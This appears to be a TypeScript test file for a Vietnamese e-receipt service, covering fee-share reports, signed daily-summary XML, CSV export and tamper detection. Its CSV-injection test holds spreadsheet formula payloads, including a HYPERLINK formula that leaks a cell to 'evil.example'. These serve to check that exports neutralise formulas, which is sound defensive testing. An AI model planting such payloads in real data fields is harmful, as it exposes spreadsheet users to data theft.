import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { auth, demoReceipt, devFileSigner, issue, testApp, type TestContext } from '../helpers/app.ts';
import { dayOfThisYear, TestClock } from '../helpers/clock.ts';
import { backends } from '../helpers/db.ts';
import { xmllintValidate, xmlsecVerify } from '../helpers/xml-tools.ts';

const run = promisify(execFile);

async function issueDay(ctx: TestContext) {
  t.equal((await issue(ctx)).statusCode, 201);
  t.equal((await issue(ctx, { ...demoReceipt, payer: { name: 'Trần Thị Bình' }, items: [{ feeCode: 'STP-LLTP' }] })).statusCode, 201);
  t.equal((await issue(ctx, { ...demoReceipt, department: 'SNNMT', payer: { name: 'Lê Văn Cường' }, items: [{ feeCode: 'SNNMT-TDHS' }, { feeCode: 'SNNMT-DKBD' }] })).statusCode, 201);
}

for (const backend of backends) {
  t.test(`fee-share report: JSON, CSV, bad input (${backend})`, async (t) => {
    const clock = new TestClock(dayOfThisYear('05-20'));
    const ctx = await testApp(backend, { clock: clock.now });
    t.teardown(() => ctx.close());
    await issueDay(ctx);
    const day = clock.date;
    const json = (await ctx.app.inject({ url: `/v1/reports/fee-shares?from=${day}&to=${day}`, headers: auth(ctx.keys.accountant) })).json();
    t.same(
      json.rows.map((r: Record<string, unknown>) => [r.department, r.kind, r.receipts, r.collected, r.centerShare, r.departmentShare]),
      [
        ['SNNMT', 'charge', 1, 30_000, 4_500, 25_500],
        ['SNNMT', 'fee', 1, 1_250_000, 187_500, 1_062_500],
        ['STP', 'charge', 1, 200_000, 30_000, 170_000],
        ['STP', 'fee', 2, 400_000, 60_000, 340_000],
      ],
    );
    t.same(json.totals, { receipts: 3, collected: 1_880_000, refunded: 0, net: 1_880_000, centerShare: 282_000, departmentShare: 1_598_000 });
    const stp = (await ctx.app.inject({ url: `/v1/reports/fee-shares?from=${day}&to=${day}&department=STP`, headers: auth(ctx.keys.auditor) })).json();
    t.same(stp.totals, { receipts: 2, collected: 600_000, refunded: 0, net: 600_000, centerShare: 90_000, departmentShare: 510_000 });

    const csv = await ctx.app.inject({ url: `/v1/reports/fee-shares?from=${day}&to=${day}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
    t.equal(csv.statusCode, 200);
    t.match(csv.headers['content-type'], /^text\/csv; charset=utf-8/);
    t.same([...csv.rawPayload.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
    const rows = parse(csv.body, { bom: true }) as string[][];
    t.same(rows[0], ['Mã đơn vị', 'Tên đơn vị', 'Loại', 'Số biên lai', 'Đã thu', 'Đã hoàn trả', 'Thực thu', 'Phần trung tâm', 'Phần đơn vị']);
    t.same(rows[1], ['SNNMT', 'Sở Nông nghiệp và Môi trường tỉnh Demo', 'Lệ phí', '1', '30000', '0', '30000', '4500', '25500']);
    t.same(rows[5], ['', `Tổng cộng ${day} – ${day}`, '', '3', '1880000', '0', '1880000', '282000', '1598000']);

    const bad: Array<[string, number, string]> = [
      [`from=${day}&to=${dayOfThisYear('05-19')}`, 400, 'VALIDATION_FAILED'],
      [`from=${dayOfThisYear('02-30')}&to=${day}`, 400, 'VALIDATION_FAILED'],
      [`from=20260501&to=${day}`, 400, 'VALIDATION_FAILED'],
      [`to=${day}`, 400, 'VALIDATION_FAILED'],
      [`from=${day}&to=${day}&department=NOPE`, 422, 'UNKNOWN_DEPARTMENT'],
    ];
    for (const [query, status, code] of bad) {
      const res = await ctx.app.inject({ url: `/v1/reports/fee-shares?${query}`, headers: auth(ctx.keys.accountant) });
      t.equal(res.statusCode, status, query);
      t.equal(res.json().code, code, query);
    }
    t.equal((await ctx.app.inject({ url: `/v1/reports/fee-shares?from=${day}&to=${day}`, headers: auth(ctx.keys.cashier) })).statusCode, 403);

    // The entries behind the figures, page by page.
    const ids: number[] = [];
    let cursor: string | null = null;
    do {
      const page: { data: Array<{ id: number; receipt: { series: string } }>; nextCursor: string | null } = (
        await ctx.app.inject({
          url: `/v1/reports/fee-shares/entries?from=${day}&to=${day}&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
          headers: auth(ctx.keys.auditor),
        })
      ).json();
      ids.push(...page.data.map((e) => e.id));
      cursor = page.nextCursor;
    } while (cursor);
    t.equal(ids.length, 5, 'two kinds on two receipts, one on the third');
    t.same(
      ids,
      [...ids].sort((a, b) => a - b),
    );
    const fees = (await ctx.app.inject({ url: `/v1/reports/fee-shares/entries?from=${day}&to=${day}&department=STP&kind=fee`, headers: auth(ctx.keys.auditor) })).json();
    t.same(
      fees.data.map((e: { collected: number; centerShare: number; rateBp: number }) => [e.collected, e.centerShare, e.rateBp]),
      [
        [200_000, 30_000, 1500],
        [200_000, 30_000, 1500],
      ],
    );
  });

  t.test(`daily summary 01/TH-BLĐT: signed XML and CSV (${backend})`, async (t) => {
    const clock = new TestClock(dayOfThisYear('05-20'));
    const ctx = await testApp(backend, { clock: clock.now });
    t.teardown(() => ctx.close());
    await issueDay(ctx);
    clock.set(dayOfThisYear('05-21'));
    t.equal((await issue(ctx)).statusCode, 201, 'a receipt of the next day');
    const day = dayOfThisYear('05-20');

    // An auditor reads summaries, and does not make them.
    const notYet = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=STP`, headers: auth(ctx.keys.auditor) });
    t.equal(notYet.statusCode, 404);
    t.equal(notYet.json().code, 'DAILY_SUMMARY_NOT_FOUND');

    // An accountant's request makes the day's summaries, one per collecting organisation.
    const res = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=SNNMT`, headers: auth(ctx.keys.accountant) });
    t.equal(res.statusCode, 200);
    t.match(res.headers['content-type'], /^application\/xml/);
    const xml = res.body;
    const schema = await xmllintValidate(xml, 'schemas/daily-summary.xsd');
    t.ok(schema.ok, `valid against daily-summary.xsd: ${schema.output}`);
    const verified = await xmlsecVerify(xml, { idElement: 'DLBTHop' });
    t.ok(verified.ok, `xmlsec1 verifies: ${verified.output}`);
    t.notOk((await xmlsecVerify(xml.replace('<TgTien>1280000</TgTien>', '<TgTien>1280001</TgTien>'), { idElement: 'DLBTHop' })).ok, 'an edited total fails');
    t.match(xml, `<MSo>01/TH-BLĐT</MSo>`);
    t.match(xml, `Id="TH-${day}-SNNMT"`);
    t.match(xml, `<KDLieu>${day}</KDLieu><LDau>1</LDau><BSLThu>0</BSLThu>`);
    t.match(
      xml,
      /<DSDLieu><DLieu><STT>1<\/STT><KHMSBLai>EBL01<\/KHMSBLai><KHBLai>\d\dTNM<\/KHBLai><SBLai>1<\/SBLai><NLap>[\d-]+<\/NLap><TPLPhi>Phí thẩm định hồ sơ cấp giấy chứng nhận quyền sử dụng đất; Lệ phí đăng ký biến động đất đai<\/TPLPhi><TgTien>1280000<\/TgTien><TGia>1<\/TGia><TThai>0<\/TThai><GChu>Mới<\/GChu><\/DLieu><\/DSDLieu><SLuong>1<\/SLuong><TgTien>1280000<\/TgTien>/,
    );
    const stp = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=STP`, headers: auth(ctx.keys.auditor) });
    t.equal(stp.statusCode, 200, 'made with the others, so an auditor reads it now');
    t.equal(stp.body.match(/<DLieu>/g)?.length, 2, 'only the day’s receipts of that department');
    t.ok((await xmlsecVerify(stp.body, { idElement: 'DLBTHop' })).ok);
    const noReceipts = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=SXD`, headers: auth(ctx.keys.accountant) });
    t.equal(noReceipts.statusCode, 404, 'a department without receipts that day has no summary');
    t.match(noReceipts.json().detail, 'it had no receipts');

    const csv = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
    const rows = parse(csv.body, { bom: true }) as string[][];
    t.equal(rows.length, 4);
    t.same(rows[1]!.slice(0, 3), ['SNNMT', 'Sở Nông nghiệp và Môi trường tỉnh Demo', '0100000013']);
    t.same(rows[3]!.slice(7), ['Trần Thị Bình', 'Phí cung cấp thông tin lý lịch tư pháp', '200000', '0', '200000', 'Mới', '']);

    const ancient = await ctx.app.inject({ url: '/v1/reports/daily-summary?date=2000-01-01&department=STP', headers: auth(ctx.keys.accountant) });
    t.equal(ancient.statusCode, 422);
    t.match(ancient.json(), { code: 'DAY_BEFORE_SERIES', detail: `no series covers 2000-01-01: the first series is of ${day.slice(0, 4)}` });
    const unknown = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=NOPE`, headers: auth(ctx.keys.auditor) });
    t.equal(unknown.statusCode, 422);
    t.equal(unknown.json().code, 'UNKNOWN_DEPARTMENT');
    for (const date of ['2026-13-01', '0000-01-01', '1999-12-31', '3000-01-01', '+02026-01-01']) {
      for (const url of [`/v1/reports/daily-summary?date=${date}&department=STP`, `/v1/reports/fee-shares?from=${date}&to=${day}`]) {
        const bad = await ctx.app.inject({ url, headers: auth(ctx.keys.accountant) });
        t.equal(bad.statusCode, 400, `${url}: refused`);
        t.equal(bad.json().code, 'VALIDATION_FAILED', `${url}: VALIDATION_FAILED`);
      }
    }
  });
}

t.test('the CSV opens in LibreOffice: headless conversion to xlsx keeps the Vietnamese names', async (t) => {
  const clock = new TestClock(dayOfThisYear('05-20'));
  const ctx = await testApp('postgres', { clock: clock.now });
  const dir = await mkdtemp(path.join(tmpdir(), 'receipts-lo-'));
  t.teardown(async () => {
    await ctx.close();
    await rm(dir, { recursive: true, force: true });
  });
  await issueDay(ctx);
  const csv = await ctx.app.inject({ url: `/v1/reports/fee-shares?from=${clock.date}&to=${clock.date}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
  await writeFile(path.join(dir, 'fee-shares.csv'), csv.rawPayload);
  // The import options LibreOffice's CSV dialog shows: comma, double quote, Unicode (UTF-8), from line 1.
  await run('soffice', ['--headless', `-env:UserInstallation=file://${dir}/profile`, '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, path.join(dir, 'fee-shares.csv')], {
    timeout: 120_000,
  });
  const xlsx = await readFile(path.join(dir, 'fee-shares.xlsx'));
  t.same([...xlsx.subarray(0, 2)], [0x50, 0x4b], 'an xlsx (zip) file was written');
  const { stdout } = await run('python3', ['-c', 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read("xl/sharedStrings.xml").decode())', path.join(dir, 'fee-shares.xlsx')]);
  for (const text of ['Mã đơn vị', 'Phần trung tâm', 'Sở Tư pháp tỉnh Demo', 'Sở Nông nghiệp và Môi trường tỉnh Demo', 'Lệ phí']) {
    t.match(stdout, `>${text}<`, `"${text}" survives`);
  }
  t.notMatch(stdout, /Ã|Ä|áº/, 'no mojibake');
});

t.test('CSV injection: a payer named =HYPERLINK(…) reaches LibreOffice as text, numbers stay numbers', async (t) => {
  const clock = new TestClock(dayOfThisYear('05-20'));
  const ctx = await testApp('postgres', { clock: clock.now });
  const dir = await mkdtemp(path.join(tmpdir(), 'receipts-lo-inject-'));
  t.teardown(async () => {
    await ctx.close();
    await rm(dir, { recursive: true, force: true });
  });
  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")', '+1+2', '-3+4', '@SUM(1,2)'];
  for (const name of attacks) t.equal((await issue(ctx, { ...demoReceipt, payer: { name } })).statusCode, 201, name);
  // A formula after another separator than the comma: harmless only while the cell is quoted.
  const semicolon = 'Trần Văn B;=1+1';
  t.equal((await issue(ctx, { ...demoReceipt, payer: { name: semicolon } })).statusCode, 201);
  // Two ";" in a row: the second starts a field of its own, quotes or not.
  const twoSemicolons = 'Trần Văn C;D; =2+2';
  t.equal((await issue(ctx, { ...demoReceipt, payer: { name: twoSemicolons } })).statusCode, 201);
  clock.set(dayOfThisYear('05-21'));
  const csv = await ctx.app.inject({ url: `/v1/reports/daily-summary?date=${dayOfThisYear('05-20')}`, headers: { ...auth(ctx.keys.accountant), accept: 'text/csv' } });
  t.equal(csv.statusCode, 200);
  const rows = parse(csv.body, { bom: true }) as string[][];
  t.same(
    rows.slice(1).map((r) => r[7]),
    [...attacks.map((a) => `'${a}`), "Trần Văn B;'=1+1", "Trần Văn C;D;' =2+2"],
    'every text cell that would start a formula is prefixed, and so is a formula start after a ";"',
  );
  t.match(csv.body, `"Trần Văn B;'=1+1"`, 'and every text cell is quoted');
  await writeFile(path.join(dir, 'summary.csv'), csv.rawPayload);
  // LibreOffice's CSV import with "Evaluate formulas" on (token 13): the most dangerous way to open it.
  await run(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${dir}/profile`,
      '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true',
      '--convert-to',
      'xlsx',
      '--outdir',
      dir,
      path.join(dir, 'summary.csv'),
    ],
    { timeout: 120_000 },
  );
  const read = async (part: string) =>
    (await run('python3', ['-c', 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())', path.join(dir, 'summary.xlsx'), part])).stdout;
  const sheet = await read('xl/worksheets/sheet1.xml');
  t.notMatch(sheet, /<f>|<f /, 'no cell is a formula');
  t.match(await read('xl/sharedStrings.xml'), /HYPERLINK\(&quot;http:\/\/evil\.example/, 'the name is there, as text');
  t.match(sheet, /<c r="L2" s="\d+" t="n"><v>400000<\/v><\/c>/, 'amounts are numbers');

  // Opened with ";" as the separator (Excel's in a Vietnamese locale), formulas evaluated.
  await mkdir(path.join(dir, 'semicolon'));
  await run(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${dir}/profile`,
      '--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true',
      '--convert-to',
      'xlsx',
      '--outdir',
      path.join(dir, 'semicolon'),
      path.join(dir, 'summary.csv'),
    ],
    { timeout: 120_000 },
  );
  const readSemi = async (part: string) =>
    (await run('python3', ['-c', 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())', path.join(dir, 'semicolon', 'summary.xlsx'), part])).stdout;
  t.notMatch(await readSemi('xl/worksheets/sheet1.xml'), /<f>|<f /, 'split on ";", still no cell is a formula');
  // Each quoted row reads as one cell there: unusable, but text. Unquoted, "=1+1" would be a cell of its own, and a formula.
  // Split there, the part after a ";" is a cell of its own: text, because it starts with "'".
  const strings = await readSemi('xl/sharedStrings.xml');
  t.match(strings, '<t xml:space="preserve">&apos;=1+1&quot;,', 'the name with a ";": its second part is text');
  t.match(strings, '<t xml:space="preserve">&apos; =2+2&quot;,', 'after a second ";", text as well');
});

t.test('the daily summary: only for an ended day, stored and immutable, complete', async (t) => {
  const clock = new TestClock(dayOfThisYear('05-20'));
  const ctx = await testApp('postgres', { clock: clock.now });
  t.teardown(() => ctx.close());
  await issueDay(ctx);
  const day = clock.date;
  for (const [query, accept] of [
    [`date=${day}&department=STP`, 'application/xml'],
    [`date=${day}`, 'text/csv'],
    [`date=${dayOfThisYear('05-30')}&department=STP`, 'application/xml'],
  ] as const) {
    const early = await ctx.app.inject({ url: `/v1/reports/daily-summary?${query}`, headers: { ...auth(ctx.keys.accountant), accept } });
    t.equal(early.statusCode, 422, `${query} (${accept})`);
    t.match(early.json(), { code: 'DAY_NOT_ENDED', detail: /is made once the day has ended \(Vietnam time\); today is/ });
  }
  t.equal((await ctx.database.db.query('SELECT count(*)::int AS n FROM daily_summaries')).rows[0]!.n, 0, 'nothing was made early');

  clock.set(dayOfThisYear('05-21'), '00:00:01');
  const url = `/v1/reports/daily-summary?date=${day}&department=STP`;
  // Two accountants at once: one set of summaries is made.
  const [first, second] = await Promise.all([ctx.app.inject({ url, headers: auth(ctx.keys.accountant) }), ctx.app.inject({ url, headers: auth(ctx.keys.accountant) })]);
  t.equal(first!.statusCode, 200);
  t.ok(second!.rawPayload.equals(first!.rawPayload), 'the same summary');
  // Later: the department is renamed, an hour passes; the summary is the one made, byte for byte.
  await ctx.app.inject({ method: 'PATCH', url: '/v1/departments/STP', headers: auth(ctx.keys.admin), payload: { name: 'Sở Tư pháp (tên mới)' } });
  clock.advance(3_600_000);
  const again = await ctx.app.inject({ url, headers: auth(ctx.keys.auditor) });
  t.ok(again.rawPayload.equals(first!.rawPayload), 'served as stored');
  t.same(
    (await ctx.database.db.query(`SELECT department_code, supplement, sequence, receipts FROM daily_summaries ORDER BY department_code`)).rows,
    [
      { department_code: 'SNNMT', supplement: 0, sequence: 1, receipts: 1 },
      { department_code: 'STP', supplement: 0, sequence: 1, receipts: 2 },
    ],
    'one stored summary each, made once',
  );
  await t.rejects(ctx.database.db.query('UPDATE daily_summaries SET receipts = 4'), /refused/, 'stored summaries cannot be edited');
  await t.rejects(ctx.database.db.query('DELETE FROM daily_summaries'), /refused/, 'or removed');
  await t.rejects(ctx.database.db.query(`UPDATE summary_rows SET state = 'issued:9'`), /refused/, 'nor what they reported');

  // Completeness: a receipt of the day removed behind the guards, and the summary no longer matches the day.
  const verify = () => ctx.app.inject({ method: 'POST', url: '/v1/verify', headers: { ...auth(ctx.keys.auditor), 'content-type': 'application/xml' }, payload: first!.rawPayload });
  t.equal((await verify()).json().valid, true);
  await ctx.database.db.transaction(async (tx) => {
    await tx.query('SET LOCAL session_replication_role = replica');
    await tx.query(`DELETE FROM receipts WHERE department_code = 'STP' AND number = 2`);
  });
  const after = (await verify()).json();
  t.equal(after.valid, false);
  t.match(
    after.checks.find((c: { name: string }) => c.name === 'record-match'),
    { passed: false, reason: /^the summary lists receipt EBL01 \d\dTTP 2, which is not a receipt of / },
  );
  const audit = (await ctx.app.inject({ method: 'POST', url: '/v1/audit/verify-period', headers: auth(ctx.keys.auditor), payload: { from: day, to: day } })).json();
  t.match(
    audit.findings.find((f: { type: string }) => f.type === 'daily-summary'),
    { label: `summary TH-${day}-STP`, problems: [/^receipts: the summary lists receipt EBL01 \d\dTTP 2, which is not a receipt of/] },
  );
});

t.test('a summary made just after midnight waits for a receipt still being signed from before it', async (t) => {
  const clock = new TestClock(dayOfThisYear('05-20'));
  const base = await devFileSigner();
  let slow = false;
  let entered!: () => void;
  let release!: () => void;
  const signing = new Promise<void>((resolve) => (entered = resolve));
  const gate = new Promise<void>((resolve) => (release = resolve));
  // A token that takes its time over one signature.
  const signer = new Proxy(base, {
    get(target, prop) {
      if (prop === 'sign') {
        return async (data: Buffer) => {
          if (slow) {
            slow = false;
            entered();
            await gate;
          }
          return target.sign(data);
        };
      }
      const value = Reflect.get(target, prop, target) as unknown;
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });
  const ctx = await testApp('postgres', { clock: clock.now, signer });
  t.teardown(() => ctx.close());
  const day = dayOfThisYear('05-20');
  clock.set(day, '23:59:59');
  slow = true;
  const late = issue(ctx);
  await signing;
  clock.set(dayOfThisYear('05-21'), '00:00:05');
  let made = false;
  const summary = ctx.app.inject({ url: `/v1/reports/daily-summary?date=${day}&department=STP`, headers: auth(ctx.keys.accountant) }).then((r) => {
    made = true;
    return r;
  });
  await new Promise((resolve) => setTimeout(resolve, 500));
  t.equal(made, false, 'the summary waits while a receipt of the day is being signed');
  release();
  const receipt = (await late).json();
  t.equal(receipt.issueDate, day, 'the receipt is of the day that ended');
  const xml = (await summary).body;
  t.equal((await summary).statusCode, 200);
  t.equal(xml.match(/<DLieu>/g)?.length, 1, 'and the summary lists it');
  t.match(xml, `<SBLai>${receipt.number}</SBLai>`);
});
